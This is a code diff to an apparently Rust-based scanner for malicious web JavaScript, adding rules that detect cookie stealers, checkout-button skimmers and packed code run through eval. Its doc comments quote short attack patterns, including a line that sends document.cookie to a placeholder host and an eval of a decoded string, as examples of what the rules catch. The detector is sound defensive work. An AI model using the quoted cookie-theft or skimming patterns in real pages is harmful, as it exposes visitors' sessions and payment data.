@@ -46,6 +46,15 @@ pub enum Rule {
     /// Markup that loads a script or frame from a named domain, written into the page from
     /// string literals spelled in hex or unicode escapes (`'\x3c\x73\x63\x72…'`).
     HiddenLoader,
+    /// Cookies sent to a named URL (`new Image().src = 'http://x/?c=' + document.cookie`):
+    /// a session stealer.
+    CookieExfil,
+    /// Checkout buttons' `onclick` rewritten to the code's own handler, which navigates or
+    /// sends to a named URL (a fake payment page).
+    CheckoutHijack,
+    /// Code decoded at run time from a string literal by string methods
+    /// (`eval("…".replace(/./g, f))`) and run: a packer `unpack.rs` cannot undo statically.
+    DecodedEval,
 }
 
 impl Rule {
@@ -53,7 +62,7 @@ impl Rule {
     pub fn category(self) -> &'static str {
         match self {
             Rule::Miner | Rule::MinerCode => "cryptomining",
-            Rule::HiddenLoader => "malware",
+            Rule::HiddenLoader | Rule::DecodedEval => "malware",
             _ => "magecart",
         }
     }
@@ -80,6 +89,13 @@ impl Rule {
             Rule::HiddenLoader => format!(
                 "hidden loader: markup spelled in escape sequences writes a script or frame from {named} into the page"
             ),
+            Rule::CookieExfil => format!(
+                "cookie stealer: the page's cookies reach a network request to {named}"
+            ),
+            Rule::CheckoutHijack => format!(
+                "skimmer pattern: it rewrites the onclick handler of checkout buttons and can send the visitor or data to {named}"
+            ),
+            Rule::DecodedEval => "packed code: it decodes a string literal with string methods at run time and runs the result as code".to_string(),
         }
     }
 }
@@ -110,6 +126,12 @@ pub struct Evidence {
     /// Printable characters spelled as `\xNN` / `\uNNNN` escapes in string literals, when the
     /// unescaped text is markup (`<script`, `<iframe`) or a URL.
     pub escaped_markup: usize,
+    /// `el.setAttribute("onclick", …)` / `$(sel).attr("onclick", …)` in code whose strings
+    /// name a checkout (`#onestepcheckout-place-order`).
+    pub click_hijack: bool,
+    /// eval, `Function` or a string timer run on a string literal transformed by string
+    /// methods (`"…".replace(…)`, `"…".split("").reverse().join("")`).
+    pub decoded_eval: bool,
 }
 
 /// Words of checkout URLs that skimmers gate on.
@@ -206,6 +228,7 @@ fn escaped_printable(raw: &str) -> usize {
 pub(crate) fn evidence<'a>(semantic: &Semantic<'a>, resolve: &Resolver<'_, 'a>) -> Evidence {
     let (mut tests_checkout, mut reads_location) = (false, false);
     let (mut iframe, mut src_set) = (false, false);
+    let (mut onclick_set, mut strings_checkout) = (false, false);
     let mut e = Evidence::default();
     for node in semantic.nodes().iter() {
         match node.kind() {
@@ -225,6 +248,7 @@ pub(crate) fn evidence<'a>(semantic: &Semantic<'a>, resolve: &Resolver<'_, 'a>) 
             }
             AstKind::StringLiteral(s) => {
                 e.miner_words |= names_mining(&s.value);
+                strings_checkout |= s.value.len() < 256 && names_checkout(&s.value);
                 e.card_words |= s.value.len() < 256 && names_card(&s.value);
                 if let Some(raw) = &s.raw {
                     let n = escaped_printable(raw);
@@ -268,20 +292,73 @@ pub(crate) fn evidence<'a>(semantic: &Semantic<'a>, resolve: &Resolver<'_, 'a>) 
                             .first_string(&call.arguments)
                             .is_some_and(|t| t.eq_ignore_ascii_case("iframe"));
                     }
-                    Some("setAttribute") => {
-                        src_set |= resolve.first_string(&call.arguments) == Some("src");
+                    Some("setAttribute" | "attr") => {
+                        let attribute = resolve.first_string(&call.arguments);
+                        src_set |= attribute == Some("src");
+                        onclick_set |= call.arguments.len() >= 2
+                            && attribute.is_some_and(|a| a.eq_ignore_ascii_case("onclick"));
+                    }
+                    Some("eval" | "Function" | "setTimeout" | "setInterval" | "execScript") => {
+                        e.decoded_eval |= call
+                            .arguments
+                            .first()
+                            .and_then(Argument::as_expression)
+                            .is_some_and(decodes_literal);
                     }
                     Some("Init") => e.miner_api |= sdk_member(&call.callee),
                     _ => {}
                 }
             }
-            AstKind::NewExpression(new) => e.miner_api |= sdk_member(&new.callee),
+            AstKind::NewExpression(new) => {
+                e.miner_api |= sdk_member(&new.callee);
+                e.decoded_eval |= resolve.callee_name(&new.callee) == Some("Function")
+                    && new
+                        .arguments
+                        .last()
+                        .and_then(Argument::as_expression)
+                        .is_some_and(decodes_literal);
+            }
             _ => {}
         }
     }
     e.checkout_gate = tests_checkout && reads_location;
+    e.click_hijack = onclick_set && strings_checkout;
     e.iframe_sink = iframe && src_set;
     e
+}
+
+/// String methods a run-time decoder chains on its ciphertext.
+const DECODING_METHODS: &[&str] = &[
+    "replace", "split", "reverse", "join", "map", "charAt", "slice", "substr", "concat",
+];
+
+/// Shortest literal worth calling ciphertext (shorter ones are formatting: `"a-b".split("-")`).
+const MIN_CIPHERTEXT: usize = 32;
+
+/// `"…".replace(/./g, f)`, `"…".split("").reverse().join("")`: a string literal of at least
+/// [`MIN_CIPHERTEXT`] bytes put through one or more string methods.
+fn decodes_literal(expr: &Expression<'_>) -> bool {
+    let mut e = expr.without_parentheses();
+    let mut transforms = 0;
+    loop {
+        match e {
+            Expression::CallExpression(call) => {
+                let Expression::StaticMemberExpression(m) = call.callee.without_parentheses()
+                else {
+                    return false;
+                };
+                if !DECODING_METHODS.contains(&m.property.name.as_str()) {
+                    return false;
+                }
+                transforms += 1;
+                e = m.object.without_parentheses();
+            }
+            Expression::StringLiteral(s) => {
+                return transforms > 0 && s.value.len() >= MIN_CIPHERTEXT;
+            }
+            _ => return false,
+        }
+    }
 }
 
 /// `CoinHive.Anonymous`, `deepMiner.Init`: a start of a known miner SDK.
@@ -415,6 +492,15 @@ pub fn matching(a: &Analysis) -> Option<Rule> {
         && (on("cap:dom:write") || on("cap:network:script-inject"))
     {
         return Some(Rule::HiddenLoader);
+    }
+    if small && names_domain && a.flows.iter().any(|f| f.starts_with("read:cookie ->")) {
+        return Some(Rule::CookieExfil);
+    }
+    if small && names_domain && e.click_hijack && (sink || on("cap:network:navigate")) {
+        return Some(Rule::CheckoutHijack);
+    }
+    if small && e.decoded_eval {
+        return Some(Rule::DecodedEval);
     }
     None
 }
